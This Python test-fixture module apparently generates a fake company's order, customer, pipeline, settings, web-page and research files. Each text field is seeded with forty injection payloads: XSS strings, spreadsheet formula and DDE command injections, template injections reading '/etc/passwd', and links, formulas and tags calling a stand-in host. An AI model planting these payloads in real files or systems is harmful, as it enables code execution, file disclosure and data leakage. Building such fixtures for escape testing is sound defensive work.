"""Forty attacks, and a company whose every text field of every input file holds them.

The company is sound otherwise: it is read, measured, written up, exported and verified like any other.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from segkit.intake.documents import read_documents

OUTSIDE = "outside.example"
"""A host that nothing may ask for anything."""
HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title></style></script></textarea></details><script>alert(1)</script>",
    "'\"><iframe srcdoc='<script>parent.alert(1)</script>'>",
    '" onmouseover="alert(1)" x="',
    "<a href=javascript:alert(1)>Tea</a>",
    f"<link rel=stylesheet href=http://{OUTSIDE}/x.css>",
    f"<meta http-equiv=refresh content=0;url=http://{OUTSIDE}/>",
    f"<base href=http://{OUTSIDE}/>",
    f"<form action=http://{OUTSIDE}/><input name=a></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    f"<style>@import 'http://{OUTSIDE}/y.css';</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{OUTSIDE}/","x")',
    f'=IMPORTXML("http://{OUTSIDE}/","//a")',
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %(name)s {company}",
)
TYPST = (
    '#read("/etc/passwd")',
    "#set page(width: 1pt)",
    "$ sum_(i=1)^n i $ @nowhere <label>",
    '#link("javascript:alert(1)")[x] #eval("1+1")',
)
MARKDOWN = (
    "[Tea](javascript:alert(1))",
    f"![x](http://{OUTSIDE}/p.png)",
    f"<http://{OUTSIDE}> **bold** `code` | cell |",
    "# Heading {#main} [@nobody]",
    f"[1]: http://{OUTSIDE}/ 'x'",
)
WORD = (
    f'{{ INCLUDEPICTURE "http://{OUTSIDE}/p.png" }}',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "</w:t></w:r><w:r><w:t>",
)
ATTACKS = (*HTML, *FORMULAS, *TEMPLATES, *TYPST, *MARKDOWN, *WORD)
"""All of them; each is what a field holds, at its beginning, since a formula must begin a cell."""
SIGNS = "<>=@+-#[{$&|\\`"


def every_attack() -> Iterator[str]:
    """Yield the attacks over and over, in the order of the corpus."""
    return cycle(ATTACKS)


def table(header: tuple[str, ...], rows: list[tuple[str, ...]]) -> str:
    """Return rows as CSV."""
    written = io.StringIO()
    csv.writer(written, lineterminator="\n").writerows([header, *rows])
    return written.getvalue()


def write_company(folder: Path) -> Path:
    """Write the company; return its folder. Every attack stands in every text column, in some row of it."""
    folder.mkdir(parents=True)
    for name, text in {
        "orders.csv": orders(),
        "products.csv": products(),
        "customers.csv": customers(),
        "survey.csv": survey(),
        "events.csv": events(),
        "pipeline.csv": pipeline(),
        "stage_events.csv": stage_events(),
        "company.toml": settings(),
        "research/references.bib": bibliography(),
        **website(),
        **research(),
        **own_words(),
    }.items():
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, encoding="utf-8")
    with (folder / "company.toml").open("a", encoding="utf-8") as stream:
        stream.write(decisions(folder))
    return folder


def decisions(folder: Path) -> str:
    """Return an ``[evidence]`` table that takes every passage of the pages and notes for some group."""
    passages = [passage for passage in read_documents(folder, company_name="x").passages if passage.quotable]
    keys = [f"{passage.id}:K{place % 10:02d}" for place, passage in enumerate(passages)]
    reworded = {keys[0]: HTML[0].replace("1", "x"), keys[2]: TYPST[0]}
    lines = [f"{json.dumps(key)} = {json.dumps(text)}" for key, text in reworded.items()]
    return (
        f"[evidence]\naccept = {json.dumps(keys[::2])}\nagainst = {json.dumps(keys[1::2])}\n"
        f"reject = {json.dumps([f'{HTML[0]}:K01'])}\n[evidence.reword]\n" + "\n".join(lines) + "\n"
    )


N_CUSTOMERS = 12
N_ORDERS = 4
"""Orders of each customer; with the lines in them more than there are attacks."""


def customer(number: int) -> str:
    """Return a customer id; the last two are attacks themselves."""
    return {10: HTML[1], 11: FORMULAS[4]}.get(number, f"K{number:02d}")


def _days() -> Iterator[tuple[int, int, str]]:
    for who in range(N_CUSTOMERS):
        for number in range(1 + (who + N_ORDERS) % (N_ORDERS + 2)):
            yield who, number, f"2026-{1 + (who + 2 * number) % 9:02d}-{3 + (5 * who + number) % 25:02d}"


def orders() -> str:
    """Orders with attacks as product, category, place, tags, note, gift message, code and payment."""
    header = ("customer_id", "order_id", "order_date", "product_id", "product", "category", "quantity", "amount", "country",
              "city", "note", "gift_message", "discount_code", "payment_method", "tags", "email", f"extra {HTML[0]}")  # fmt: skip
    rows, attack = [], every_attack()
    for who, number, day in _days():
        for line in range(2):
            said = [next(attack) for _ in range(9)]
            amount = f"{15 + 25 * (who % 4) + 3 * line}.50"
            rows.append((customer(who), f"{who}-{number}", day, f"P{(who + line) % 6}", said[0], said[1], "1", amount, said[2],
                         said[3], f"{said[4]} please send the invoice to the school", f"{said[5]} for my sister with love", said[6],
                         said[7], said[8], f"k{who}@post.example", said[1]))  # fmt: skip
    return table(header, rows)


def products() -> str:
    """Products to join, each with an attack as its line and its maker."""
    return table(
        ("product_id", "product_type", "vendor"),
        [
            (f"P{number}", attack, ATTACKS[-1 - number])
            for number, attack in zip(range(6), ATTACKS, strict=False)
        ],
    )


def customers() -> str:
    """Attributes that customers stated."""
    rows = [
        (
            customer(who),
            str(1960 + who),
            ATTACKS[who],
            ATTACKS[who + 12],
            ATTACKS[who + 24],
            "yes" if who % 2 else "no",
        )
        for who in range(N_CUSTOMERS)
    ]
    return table(("customer_id", "birth_year", "household", "customer_type", "city", "newsletter"), rows)


def survey() -> str:
    """Answers to open questions."""
    rows = [(customer(who), ATTACKS[who + 6], ATTACKS[who + 18]) for who in range(N_CUSTOMERS)]
    return table(("customer_id", "What matters most?", f"Why? {HTML[2]}"), rows)


def events() -> str:
    """Carts and views of products with attacks as names."""
    kinds = cycle(("product_viewed", "cart_added", "checkout_started", "stock_notice", "back_in_stock"))
    attack = every_attack()
    rows = [
        (
            f"k{who}@post.example",
            next(kinds),
            f"2026-0{1 + who % 8}-1{step}T10:00:00Z",
            next(attack),
            next(attack),
        )
        for who in range(N_CUSTOMERS)
        for step in range(5)
    ]
    return table(("email", "event", "time", "product", "page"), rows)


_STAGES = ("Qualification", "Needs Analysis", "Proposal", "Negotiation", "Closed Won", "Closed Lost")


def pipeline() -> str:
    """Opportunities whose names, owners, reasons and next steps attack."""
    attack, rows = every_attack(), []
    for number in range(24):
        stage = _STAGES[number % 6]
        closed = f"2026-0{1 + number % 6}-{2 + number:02d}" if stage.startswith("Closed") else ""
        name, owner, source, reason, step = (next(attack) for _ in range(5))
        rows.append((f"D{number}", name, f"{attack_account(number)}", stage, f"{500 + 40 * number}", f"2026-01-{1 + number:02d}",
                     closed, owner, source, reason if stage == "Closed Lost" else "", step))  # fmt: skip
    return table(
        ("Opportunity ID", "Opportunity Name", "Account Name", "Stage", "Amount", "Created Date", "Close Date",
         "Opportunity Owner", "Lead Source", "Loss Reason", "Next Step"), rows)  # fmt: skip


def attack_account(number: int) -> str:
    """Return an account's name."""
    return ATTACKS[(number + 9) % len(ATTACKS)]


def stage_events() -> str:
    """Moves between stages, by people named like attacks."""
    rows = [
        (
            f"D{number}",
            _STAGES[step],
            f"2026-0{1 + step}-{2 + number:02d}",
            ATTACKS[(number + step) % len(ATTACKS)],
        )
        for number in range(24)
        for step in range(number % 6 + 1)
        if (step, number % 6) != (4, 5)  # nothing is lost after it was won
    ]
    return table(("Opportunity ID", "Stage", "Date", "Changed By"), rows)


def settings() -> str:
    """A company file with an attack in every text it takes."""
    said = [json.dumps(attack) for attack in ATTACKS]
    return f"""[company]
name = {said[0]}
country = {said[1]}
currency = "EUR"
industry = {said[2]}
about = {said[3]}
business_model = "mixed"
[orders]
files = ["orders.csv"]
join = {{ file = "products.csv", on = "product_id" }}
[segmentation]
n_segments = 4
[[segments]]
contains = "K01"
name = {said[4]}
note = {said[5]}
[[segments]]
contains = "K02"
name = {said[17]}
[brand]
tone = {said[6]}
sender = {json.dumps(f"{ATTACKS[7]} <a@shop.example>")}
signature = {said[23]}
postal_address = {said[28]}
logo_alt = {said[2]}
unsubscribe_url = "https://shop.example/leave"
[[flows.override]]
contains = "K03"
reason = {said[29]}
[[messages.offer]]
text = {said[24]}
contains = "K01"
[sales]
opportunity = {said[30]}
[[sales.criteria]]
criterion = "need"
reason = {said[31]}
question = {said[32]}
[[sales.stages]]
stage = "closing"
reason = {said[18]}
enters = {said[33]}
owner = {said[34]}
[report]
title = {said[35]}
authors = [{said[36]}, {said[29]}, {said[17]}]
course = {said[37]}
institution = {said[38]}
lecturer = {said[1]}
ai_use = {said[39]}
"""


def website() -> dict[str, str]:
    """One page an attack, in what it is made of and in what it shows."""
    pages = {}
    for number, attack in enumerate(ATTACKS):
        shown = attack.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
        pages[f"website/page-{number}.html"] = (
            f'<!doctype html><html lang="en"><head><title>{shown} delivery</title><meta name="author" content="{shown}">'
            f"<script>alert(1)</script></head><body onload=alert(1)><main><h1>{shown} for schools</h1>{attack}"
            f"<p>We send an invoice to schools and studios and ask for payment within 30 days, and {shown} stands on it.</p>"
            f"<p>Delivery costs 4.95 EUR and is free from {50 + number} EUR on, code {shown} until 1 May 2027.</p></main></body></html>"
        )
    return pages


def research() -> dict[str, str]:
    """One note an attack."""
    return {
        f"research/note-{number}.md": (
            f"---\ntitle: {json.dumps(attack)}\nauthor: [{json.dumps(attack)}]\npublisher: {json.dumps(attack)}\nyear: 2025\n"
            f"url: {json.dumps(attack)}\nn: 400\npopulation: {json.dumps(attack)}\nkind: survey\n---\n# Results {attack}\n\n"
            f'"Most people who send a present choose {attack} before they write the message on a card."\n'
        )
        for number, attack in enumerate(ATTACKS)
    }


def bibliography() -> str:
    """References with attacks as titles, authors and addresses."""
    return "\n".join(
        f"@misc{{evil{number}, title = {{{attack}}}, author = {{Evil, {attack}}}, year = {{2025}}, url = {{{attack}}}}}"
        for number, attack in enumerate(HTML + TYPST[1:3])
    )


def own_words() -> dict[str, str]:
    """Arguments and messages of the user's own, full of attacks."""
    said = "\n\n".join(ATTACKS)
    sections = {
        "summary": "section: summary",
        "group-K01": "section: group\ncontains: K01",
        "flow-K01": "section: flow\ncontains: K01",
        "message-K01": "section: message\ncontains: K01",
        "criterion-need": "section: criterion\nabout: need",
        "opportunity": "section: opportunity",
        "stage-closing": "section: stage\nabout: closing",
    }
    files = {
        f"text/{name}.md": f"---\n{front}\nauthor: language model\nby: {json.dumps(HTML[1])}\n---\n{said}\n"
        for name, front in sections.items()
    }
    files["messages/own.md"] = (
        f"---\ncontains: K02\nchannel: email\nsubject: {json.dumps(HTML[0])}\npreheader: {json.dumps(FORMULAS[0])}\n"
        f"action_label: {json.dumps(HTML[6])}\naction_url: https://shop.example/x\n---\n{said.replace('{{', '{ {').replace('{%', '{ %')}\n"
    )
    return files
